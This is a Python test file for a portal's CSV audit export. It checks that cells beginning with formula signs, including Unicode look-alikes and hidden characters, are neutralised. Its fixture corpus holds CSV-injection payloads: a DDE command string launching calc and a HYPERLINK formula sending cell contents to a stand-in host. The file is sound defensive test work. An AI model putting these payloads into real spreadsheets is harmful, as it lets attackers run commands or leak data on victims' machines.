"""R21: no cell of a table that we hand out becomes a formula, whatever a log or a person has put into it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from itertools import product

import pytest
from openpyxl import Workbook

from portal.audit.listing import HEADER, listing, safe
from portal.audit.texts import speech
from portal.compliance.engine import Finding
from portal.compliance.load import HOME_ZONE
from portal.compliance.registry import all_rules
from portal.compliance.rule import Severity

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\x00", "\ufeff", "\u200b", "\u202e", "\u3000", "\xa0", " \t")
AFTER = ("cmd|'/C calc'!A0", '1,2;3"="', "SUM(1+1)*cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"a")', "\r\n=1")
CORPUS = [before + sign + after for before, sign, after in product(BEFORE, SIGNS, AFTER)]
OURS = {"rule", "version", "severity", "on", "state", "first_seq", "last_seq"}  # columns that nobody else writes


def findings() -> Iterator[Finding]:
    rule = all_rules()[0]
    for number, word in enumerate(CORPUS):
        yield Finding(
            rule.code, rule.version, word, number, number, Severity.RED, date(2026, 9, 1), word, word, word,
            {"office": word}, word, lowered=word,
        )  # fmt: skip


@pytest.fixture
def table(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, str]]:
    monkeypatch.setattr(
        "portal.audit.listing.sentence", lambda *_: "=1+1"
    )  # a sentence that begins with a word of others
    versions = {(rule.code, rule.version): rule for rule in all_rules()}
    content = listing(findings(), versions, speech("zh", HOME_ZONE, None))
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_word_stays_in_its_cell_and_is_what_it_was(table: list[dict[str, str]]) -> None:
    assert len(table) == len(CORPUS)
    for row, word in zip(table, CORPUS, strict=True):
        assert set(row) == set(HEADER)
        assert {row[column] for column in ("subject", "office", "post", "actor", "calendar", "lowered")} == {f"'{word}"}
        assert row["explanation"] == "'=1+1"


def test_a_spreadsheet_takes_no_cell_for_a_formula(table: list[dict[str, str]]) -> None:
    """openpyxl decides as a spreadsheet does: what begins with = is of the kind f."""
    sheet = Workbook().active
    assert sheet is not None
    visible = [{name: cell for name, cell in row.items() if name not in OURS} for row in table]
    for row in visible:
        sheet.append([cell.replace("\x00", "").replace("\u202e", "") for cell in row.values()])
    assert {cell.data_type for line in sheet.iter_rows() for cell in line} == {"s"}


@pytest.mark.parametrize("cell", ["V08", "330106-2026-000001", "2026-09-01", "阿依古丽·买买提", "a=b", "1-2", ""])
def test_what_can_be_no_formula_is_left_as_it_is(cell: str) -> None:
    assert safe(cell) == cell
